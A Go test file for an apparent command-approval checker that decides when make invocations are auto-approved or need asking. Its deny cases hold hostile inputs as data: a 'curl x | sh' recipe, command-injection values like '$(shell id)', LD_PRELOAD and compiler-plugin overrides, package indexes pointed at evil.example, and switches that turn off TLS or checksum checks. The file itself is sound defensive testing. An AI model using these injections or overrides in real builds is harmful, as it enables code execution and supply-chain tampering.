// SPDX-License-Identifier: Apache-2.0

package verdict

import (
	"os"
	"path/filepath"
	"testing"

	"memo.dev/projects/domain/permissions/projectfiles"
)

// makeProject is a trusted project holding files, its definitions pinned
// for rule.
func makeProject(t *testing.T, rule string, files map[string]string) *projectfiles.Project {
	t.Helper()
	root := t.TempDir()
	var list []benignFile
	for p, text := range files {
		list = append(list, benignFile{path: p, text: text})
	}
	writeBenignFiles(t, root, list)
	p := NewProject(root, "", projectfiles.OSGitFS(t.TempDir()), nil)
	return p.WithPinned(p.AllDefinitions([]string{rule}))
}

// zstdLike is a root makefile that runs the makefiles of lib and tests
// through a variable folder and an echo prefix, as facebook/zstd's does.
var zstdLike = map[string]string{
	"Makefile":       "Q = $(if $(filter 1,$(V)),,@)\nLIBDIR := lib\nTESTDIR = tests\n\nall:\n\t$(Q)$(MAKE) -C $(LIBDIR) $@\n\t$(MAKE) -C $(TESTDIR) all\n",
	"lib/Makefile":   "libzstd:\n\t@echo lib\n\nall: libzstd\n",
	"tests/Makefile": "all:\n\t@echo tests\n\ntest-pool:\n\t@echo pool\n",
	"other/Makefile": "x:\n\t@echo other\n",
	"other.mk":       "x:\n\t@echo other\n",
}

// Under the rule make, make -C DIR passes when the root makefile's
// $(MAKE) -C DIR pinned DIR's makefile, and the target is one it defines.
func TestMakeFolderPinnedByTheRule(t *testing.T) {
	p := makeProject(t, "make", zstdLike)
	ch := NewChecker([]string{"make"})
	for _, tc := range []struct {
		line    string
		approve bool
	}{
		{"make -C lib libzstd", true},
		{"make -C lib", true},
		{"make -Clib libzstd", true},
		{"make --directory=lib libzstd", true},
		{"make --directory lib all", true},
		{"make -C tests test-pool", true},
		{"make -C tests/ test-pool", true},
		{"make -C lib nosuchtarget", false},
		{"make -C other x", false},
		{"make -C /tmp x", false},
		{"make -C .. x", false},
		{"make -C lib -C ../other x", false},
		{"make -f other.mk x", false},
		{"make --file=other.mk x", false},
		// lib's makefile, pinned as run in lib, run from the root: its
		// recipes' relative paths would name other files (../../out is
		// outside the project from the root), so it asks.
		{"make -f lib/Makefile libzstd", false},
		{"make -f lib/Makefile nosuchtarget", false},
		{"make -f ./lib/Makefile libzstd", false},
		{"make --file=lib/Makefile libzstd", false},
		{"make -flib/Makefile libzstd", false},
		{"make -C lib -f ../Makefile all", false},
		{"make -C lib -f Makefile libzstd", true},
		{"make -f Makefile all", true},
		{"make -kC lib libzstd", false},
		{"make --dir=lib libzstd", false},
		{"make -C lib -I /tmp libzstd", false},
		{"make -C lib --eval=x libzstd", false},
	} {
		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
		}
	}
}

// A makefile of another folder run with -f runs its recipes in make's
// folder: a/b/Makefile's rm -rf ../../out, trusted as run in a/b (the
// root's $(MAKE) -C a/b), would delete a folder outside the project.
func TestMakeFileOfAnotherFolderAsks(t *testing.T) {
	p := makeProject(t, "make", map[string]string{"Makefile": "all:\n\t$(MAKE) -C a/b clean\n", "a/b/Makefile": "clean:\n\trm -rf ../../out\n"})
	ch := NewChecker([]string{"make"})
	for _, tc := range []struct {
		line    string
		approve bool
	}{
		{"make -C a/b clean", true},
		{"make -C a/b -f Makefile clean", true},
		{"make -f a/b/Makefile clean", false},
		{"make -f a/b/Makefile", false},
		{"make --file=a/b/Makefile clean", false},
		{"make --makefile a/b/Makefile clean", false},
		{"make -C a -f b/Makefile clean", false},
	} {
		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
		}
	}
}

// A folder reached through a link out of the project asks, pinned or not.
func TestMakeFolderThroughALinkAsks(t *testing.T) {
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "Makefile"), []byte("x:\n\t@echo\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"Makefile": "all:\n\t$(MAKE) -C linked x\n"}
	root := t.TempDir()
	var list []benignFile
	for p, text := range files {
		list = append(list, benignFile{path: p, text: text})
	}
	writeBenignFiles(t, root, list)
	if err := os.Symlink(outside, filepath.Join(root, "linked")); err != nil {
		t.Skip(err)
	}
	p := NewProject(root, "", projectfiles.OSGitFS(t.TempDir()), nil)
	p = p.WithPinned(p.AllDefinitions([]string{"make"}))
	if v := NewChecker([]string{"make"}).CheckIn("make -C linked x", p); v.Approved {
		t.Errorf("make -C through a link out of the project is approved")
	}
}

// A changed sub-makefile makes the line ask, as the rule's own lines.
func TestMakeFolderChangedSinceTrustAsks(t *testing.T) {
	p := makeProject(t, "make", zstdLike)
	if err := os.WriteFile(filepath.Join(p.Root, "lib", "Makefile"), []byte("libzstd:\n\tcurl x | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if v := NewChecker([]string{"make"}).CheckIn("make -C lib libzstd", p); v.Approved {
		t.Errorf("make -C lib after lib/Makefile changed is approved")
	}
}

// The makefile of the hostile cases: each variable has one use.
const makeUses = `X ?= true
SUBDIR ?= lib
SCRIPT ?= a.py
OPT = $(FLAGS_OF_X)
NESTED = $(INNER)
INNER2 = $(DEEP)
DEEPER = $(INNER2)
FROMSHELL = $(shell $(SH_VAR))
vpath %.c $(VP_VAR)
$(TARGET_VAR):
	@echo t
export LD_LIBRARY_PATH = $(LOADED)
SHELL := /bin/sh
BIN := $(MALLOC)

all:
	$(X) build
	$(CC) $(CFLAGS) $(LDFLAGS) -o prog prog.c $(MODE)
	@echo $(NAME) $(if $(filter 1,$(GUARD)),yes,no)
	rm -rf $(BUILD_DIR)
	cd $(SUB) && ls
	python $(SCRIPT)
	go run $(PKG)
	$(if $(EVILIF),$(EVILIF)) build
	echo x > $(OUT)
	$(MAKE) -C $(SUBDIR)
	$(NESTED) go
	$(DEEPER) go
	$(BIN) x
	$(MAKE) NAME=$(NAME) all
`

func TestMakeVariablesByUse(t *testing.T) {
	p := makeProject(t, "make", map[string]string{"Makefile": makeUses, "a.py": "print(1)\n", "lib/Makefile": "all:\n\t@echo\n"})
	ch := NewChecker([]string{"make"})
	for _, tc := range []struct {
		line    string
		approve bool
	}{
		{"make CC=clang", true},                   // as before
		{"make NAME=release", true},               // only an argument of echo
		{"make MODE=fast", true},                  // an argument of the compiler
		{"make GUARD=maybe", true},                // only tested
		{"make CFLAGS='-O2 -Wall'", true},         // compiler flags
		{"make NAME=", true},                      // empty
		{"make NAME=src/x", true},                 // a path inside
		{"make X=rm", false},                      // the program a recipe runs
		{"make X=", false},                        // no value: build would run
		{"make CC=/tmp/evil", false},              // a program outside
		{"make CC=./evil.sh", false},              // a program
		{"make SHELL=/bin/sh", false},             // make's own
		{"make shell=/bin/sh", false},             // any case
		{"make MAKEFLAGS=-k", false},              // make's own
		{"make .SHELLFLAGS=-c", false},            // make's own
		{"make MAKEFILES=x.mk", false},            // make's own
		{"make CFLAGS=-fplugin=/tmp/x.so", false}, // a plugin
		{"make CFLAGS=-fplugin=x.so", false},      // a plugin
		{"make CFLAGS=-B.", false},                // another compiler
		{"make CFLAGS=-wrapper", false},           // a wrapper
		{"make CFLAGS=-specs=x", false},           // specs
		{"make CFLAGS=@file", false},              // a response file
		{"make CFLAGS='-Xclang -load'", false},    // a plugin
		{"make LDFLAGS=-Wl,-plugin,x", false},     // a linker plugin
		{"make NAME='$(shell id)'", false},        // characters
		{"make NAME='`id`'", false},               // characters
		{"make NAME='a;b'", false},                // characters
		{"make NAME=-rf", false},                  // an option
		{"make NAME=/tmp/x", false},               // outside
		{"make NAME=../x", false},                 // outside
		{"make SH_VAR=id", false},                 // inside $(shell)
		{"make VP_VAR=src", false},                // vpath
		{"make TARGET_VAR=all", false},            // a target
		{"make LOADED=lib", false},                // exported as a loading variable
		{"make LD_PRELOAD=x.so", false},           // a loading variable
		{"make NODE_OPTIONS=x", false},            // a loading variable
		{"make BUILD_DIR=src", false},             // an operand of rm
		{"make SUB=src", false},                   // a folder to change to
		{"make SCRIPT=evil.py", false},            // a script an interpreter runs
		{"make PKG=evil.go", false},               // go run
		{"make EVILIF=rm", false},                 // the program, through $(if)
		{"make OUT=src", false},                   // a redirection
		{"make SUBDIR=lib", false},                // a sub-make's folder
		{"make INNER=rm", false},                  // the program, one level down
		{"make DEEP=rm", false},                   // two levels down
		{"make MALLOC=rm", false},                 // the program, through BIN
		{"make -e NAME=release", false},           // the environment overrides
		{"make --environment-overrides NAME=x", false},
		{"make --eval=x NAME=release", false},
		{"make NAME:=x", false},
		{"make 'NAME!=id'", false},
		{"make AR=evil", false},     // a program build tools run
		{"make CGO_CC=evil", false}, // a program build tools run
	} {
		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
		}
	}
}

// A variable set before make is judged as the same variable on its line
// (make reads its environment as variables and exports them to the
// recipes): NAME=release make approves where make NAME=release does, and
// every neighbour that asks on the line asks before it too.
func TestMakeVariablesFromTheEnvironment(t *testing.T) {
	p := makeProject(t, "make", map[string]string{"Makefile": makeUses, "a.py": "print(1)\n", "lib/Makefile": "all:\n\t@echo\n"})
	ch := NewChecker([]string{"make"})
	for _, tc := range []struct {
		line    string
		approve bool
	}{
		{"NAME=release make", true},
		{"MODE=fast make", true},
		{"GUARD=maybe NAME=release make", true},
		{"CFLAGS='-O2 -Wall' make", true},
		{"NAME=src/x make", true},
		{"X=rm make", false},
		{"CC=/tmp/evil make", false},
		{"SHELL=/bin/sh make", false},
		{"MAKEFLAGS=-k make", false},
		{"MAKEFILES=x.mk make", false},
		{"GNUMAKEFLAGS=-e make", false},
		{"CFLAGS=-fplugin=/tmp/x.so make", false},
		{"NAME=-rf make", false},
		{"NAME=/tmp/x make", false},
		{"NAME=../x make", false},
		{"SH_VAR=id make", false},
		{"BUILD_DIR=src make", false},
		{"LD_PRELOAD=x.so make", false},
		{"NODE_OPTIONS=x make", false},
		{"UNUSED=1 make", false}, // no makefile reads it: only the recipes' programs would
		{"NAME=release make -e", false},
		{"NAME=release UNUSED=1 make", false},
		{"NAME=release GOPROXY=https://evil.example make", false},
		{"NAME=release make NAME2=x", false},
		{"NAME='$(id)' make", false},
		{"NAME=release ./make", false},
	} {
		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
		}
	}
	// Without a project there are no makefiles to judge them against.
	if v := NewChecker([]string{"make"}).Check("NAME=release make", nil); v.Approved {
		t.Errorf("NAME=release make approved without a project")
	}
}

// Where Memo cannot read every use, a variable asks.
func TestMakeVariablesUnreadUsesAsk(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		line  string
	}{
		{"no makefile", map[string]string{"x.txt": ""}, "make NAME=x"},
		{"an include not expanded", map[string]string{"Makefile": "include $(shell ls *.mk)\nall:\n\t@echo $(NAME)\n"}, "make NAME=x"},
		{"a sub-make not followed", map[string]string{"Makefile": "DIRS = a\nall:\n\tfor d in $(DIRS); do $(MAKE) -C $$d; done\n"}, "make NAME=x"},
		{"a computed name", map[string]string{"Makefile": "P = NA\nall:\n\t$($(P)ME) go\n"}, "make NAME=x"},
		{"a define", map[string]string{"Makefile": "define F\n$(NAME) go\nendef\nall:\n\t@echo\n"}, "make NAME=x"},
		{"a call", map[string]string{"Makefile": "all:\n\t@echo $(call f,$(NAME))\n"}, "make NAME=x"},
		{"an eval", map[string]string{"Makefile": "$(eval $(NAME))\nall:\n\t@echo\n"}, "make NAME=x"},
		{"a script that reads it", map[string]string{"Makefile": "all:\n\t./build.sh\n", "build.sh": "#!/bin/sh\n$NAME go\n"}, "make NAME=x"},
		{"a sub-makefile unpinned", map[string]string{"Makefile": "all:\n\t@echo\n", "sub/Makefile": "all:\n\t$(NAME) go\n"}, "make -C sub NAME=x"},
		{"a use in a sub-make", map[string]string{"Makefile": "all:\n\t$(MAKE) -C sub all\n", "sub/Makefile": "all:\n\t$(NAME) go\n"}, "make NAME=x"},
		{"an include through it", map[string]string{"Makefile": "INC ?= rules\ninclude $(INC).mk\nall:\n\t@echo\n", "rules.mk": "x:\n\t@echo\n"}, "make INC=evil"},
		{"piped into a shell", map[string]string{"Makefile": "all:\n\techo $(NAME) | sh\n"}, "make NAME=x"},
		{"in a command substitution", map[string]string{"Makefile": "all:\n\t$$(echo $(NAME)) go\n"}, "make NAME=x"},
		{"a shell loop's list", map[string]string{"Makefile": "all:\n\tfor x in $(NAME); do $$x; done\n"}, "make NAME=x"},
		{"a tab assignment in a conditional", map[string]string{"Makefile": "ifeq (1,1)\n\tCMD = $(NAME)\nendif\nall:\n\t$(CMD) go\n"}, "make NAME=x"},
		{"read from the environment", map[string]string{"Makefile": "all:\n\t$${NAME} go\n"}, "make NAME=x"},
		{"read through MAKEFLAGS", map[string]string{"Makefile": "all:\n\t$(MAKEFLAGS) go\n"}, "make NAME=x"},
		{"an operand of a computed program", map[string]string{"Makefile": "all:\n\t$(PYTHON) $(NAME)\n"}, "make NAME=x"},
		{"an operand of make's default RM", map[string]string{"Makefile": "all:\n\t$(RM) $(NAME)\n"}, "make NAME=x"},
		{"a target's variable", map[string]string{"Makefile": "all: CMD = $(NAME)\nall:\n\t$(CMD) go\n"}, "make NAME=x"},
		{"exported as a loading variable", map[string]string{"Makefile": "LD_PRELOAD = $(NAME)\n.EXPORT_ALL_VARIABLES:\nall:\n\t@echo\n"}, "make NAME=x"},
		{"a glued sub-make folder", map[string]string{"Makefile": "all:\n\t$(MAKE) -C$(NAME) all\n"}, "make NAME=x"},
		{"a use in an included makefile", map[string]string{"Makefile": "include rules.mk\nall:\n\t@echo\n", "rules.mk": "x:\n\t$(NAME) go\n"}, "make NAME=x"},
		// make exports a line's variables to every recipe: one no makefile
		// uses reaches only the programs the recipes run, which may read it
		// (go's proxy, pip's index, pytest's plugins).
		{"used nowhere", map[string]string{"Makefile": "all:\n\t@echo\n"}, "make NAME=x"},
		{"a proxy go reads", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GOPROXY=http://evil.example"},
		{"a proxy go reads, no URL", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GONOSUMDB=example.com"},
		{"an index pip reads", map[string]string{"Makefile": "install:\n\tpip install -r requirements.txt\n"}, "make install PIP_INDEX_URL=http://evil.example/simple"},
		{"plugins pytest loads", map[string]string{"Makefile": "test:\n\tpytest\n"}, "make test PYTEST_PLUGINS=evil"},
		{"JVM options", map[string]string{"Makefile": "test:\n\tmvn test\n"}, "make test MAVEN_OPTS=-javaagent:x.jar"},
		{"only in a comment", map[string]string{"Makefile": "# GOPROXY is the user's\ntest:\n\tgo test ./...\n"}, "make test GOPROXY=direct"},
		{"a URL as an argument", map[string]string{"Makefile": "INDEX ?= https://pypi.org/simple\ninstall:\n\tpip install --index-url $(INDEX) -r requirements.txt\n"}, "make install INDEX=http://evil.example/simple"},
	} {
		p := makeProject(t, "make", tc.files)
		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); v.Approved {
			t.Errorf("%s: %q is approved", tc.name, tc.line)
		}
	}
}

// A switch value (0, off, true) is harmless to the makefiles, but make
// exports it to every recipe, where a variable the programs read turns off
// a check of what they download: it asks whether a makefile uses it or
// not. Other switches keep passing.
func TestMakeSwitchesThatTurnChecksOff(t *testing.T) {
	uses := "test:\n\t@echo $(NODE_TLS_REJECT_UNAUTHORIZED) $(V)\n\tnpm test\n\tgo test ./...\n"
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"make test NODE_TLS_REJECT_UNAUTHORIZED=0", false},
		{"make test GIT_SSL_NO_VERIFY=1", false},
		{"make test git_ssl_no_verify=true", false},
		{"make test GOSUMDB=off", false},
		{"make test GONOSUMCHECK=1", false},
		{"make test GOINSECURE=1", false},
		{"make test PYTHONHTTPSVERIFY=0", false},
		{"make test NPM_CONFIG_STRICT_SSL=false", false},
		{"make test npm_config_strict_ssl=false", false},
		{"make test YARN_ENABLE_STRICT_SSL=false", false},
		{"make test BUNDLE_SSL_VERIFY_MODE=0", false},
		{"make test CARGO_HTTP_CHECK_REVOKE=false", false},
		{"make test MAVEN_OPTS=-Dmaven.wagon.http.ssl.insecure=true", false},
		{"make test JAVA_TOOL_OPTIONS=-O2", false},
		{"make test V=1", true},
		{"make test VERBOSE=yes", true},
	} {
		p := makeProject(t, "make test", map[string]string{"Makefile": uses, "package.json": `{"scripts":{"test":"node t.js"}}`})
		v := NewChecker([]string{"make test"}).CheckIn(tc.line, p)
		if v.Approved != tc.want {
			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.want)
		}
	}
}

// A makefile that cannot be read asks.
func TestMakeVariablesUnreadableMakefileAsks(t *testing.T) {
	p := makeProject(t, "make", map[string]string{"Makefile": "all:\n\t@echo $(NAME)\n"})
	path := filepath.Join(p.Root, "Makefile")
	if err := os.Chmod(path, 0); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(path, 0o644)
	if _, err := os.ReadFile(path); err == nil {
		t.Skip("the file is readable (root)")
	}
	if v := NewChecker([]string{"make"}).CheckIn("make NAME=x", p); v.Approved {
		t.Errorf("make NAME=x with an unreadable Makefile is approved")
	}
}

// Uses that cannot choose what runs pass.
func TestMakeVariablesSafeUsesPass(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		line  string
	}{
		{"an empty value after a computed program", map[string]string{"Makefile": "test-flags := -race\nall:\n\t$(GOTEST) $(test-flags) ./...\n"}, "make test-flags="},
		{"flags after a computed compiler", map[string]string{"Makefile": "all:\n\t$(CC) $(MY_CFLAGS) -o x x.c\n"}, "make MY_CFLAGS=-Werror"},
		{"handed to a sub-make as itself", map[string]string{"Makefile": "all:\n\t$(MAKE) -C sub NAME=\"$(NAME)\" all\n", "sub/Makefile": "all:\n\t@echo $(NAME)\n"}, "make NAME=x"},
		{"only compared", map[string]string{"Makefile": "ifeq ($(NAME),x)\nY = 1\nendif\nall:\n\t@echo $(if $(NAME),on,off)\n"}, "make NAME=x"},
		{"through a variable used as an argument", map[string]string{"Makefile": "OPTS = --name $(NAME)\nall:\n\tgo test $(OPTS)\n"}, "make NAME=x"},
	} {
		p := makeProject(t, "make", tc.files)
		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); !v.Approved {
			t.Errorf("%s: %q asks: %s", tc.name, tc.line, v.Reason)
		}
	}
}
